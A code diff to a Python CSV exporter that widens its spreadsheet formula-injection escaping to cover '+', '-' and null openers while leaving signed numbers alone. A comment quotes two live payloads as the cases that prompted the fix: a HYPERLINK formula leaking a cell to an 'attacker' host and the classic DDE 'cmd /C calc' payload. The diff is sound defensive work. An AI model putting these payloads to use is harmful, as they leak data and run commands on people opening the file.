@@ -414,13 +414,19 @@ def to_csv(result: QueryResult) -> str:
 
 
 # A CSV field Excel evaluates as a formula when it opens with one of these (document text is
-# anyone's: '=HYPERLINK(…)'); an apostrophe in front makes it text.  '-' and '+' open thousands of
-# real literals (bullets, signs) and are left as they are.
-_FORMULA_OPENERS = ("=", "@", "\t", "\r")
+# anyone's: '=HYPERLINK(…)'); an apostrophe in front makes it text (OWASP ASVS 1.2.10).  '+' and
+# '-' too (stop 19: '+HYPERLINK("http://attacker/?d="&A1;"…")' was a live link and
+# "-2+3+cmd|' /C calc'!A0" the classic DDE payload, both written as they were); a bullet such as
+# '- Sở Tài chính chủ trì' showed as #NAME? in Excel for the same reason and now reads as written.
+# A plain signed number ('-5', '+3,5') is a number, not a formula, and is left as it is.
+_FORMULA_OPENERS = ("=", "@", "+", "-", "\t", "\r", "\x00")
+_SIGNED_NUMBER = re.compile(r"[+-]\d+(?:[.,]\d+)*%?")
 
 
 def _csv_text(text: str) -> str:
-    return "'" + text if text.startswith(_FORMULA_OPENERS) else text
+    if not text.startswith(_FORMULA_OPENERS) or _SIGNED_NUMBER.fullmatch(text):
+        return text
+    return "'" + text
 
 
 _XSD = "http://www.w3.org/2001/XMLSchema#"
